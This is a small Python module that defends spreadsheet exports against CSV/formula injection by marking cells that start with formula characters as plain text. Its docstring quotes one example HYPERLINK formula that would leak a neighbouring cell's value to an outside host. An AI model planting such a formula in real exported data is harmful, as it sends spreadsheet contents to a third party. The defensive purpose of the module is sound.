"""Cells that go into a spreadsheet we hand out (xlsx or CSV, staff or public) pass through `safe_cell`.

A text cell that starts with = + - @ (or a tab / carriage return, which Excel strips before looking) is read
by Excel, WPS and LibreOffice as a formula: an item named `=HYPERLINK("http://…?leak="&A2,"点击查看")` would
become a live link that sends the neighbouring cells away (CSV/formula injection, OWASP). Such text gets a
leading apostrophe, the conventional "this is text" marker; numbers, dates and other values pass unchanged.
openpyxl would even store such a string as a formula itself, so the xlsx writers need this as much as CSV.
"""
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value, with text that a spreadsheet would evaluate turned into plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_cell(v) for v in values]
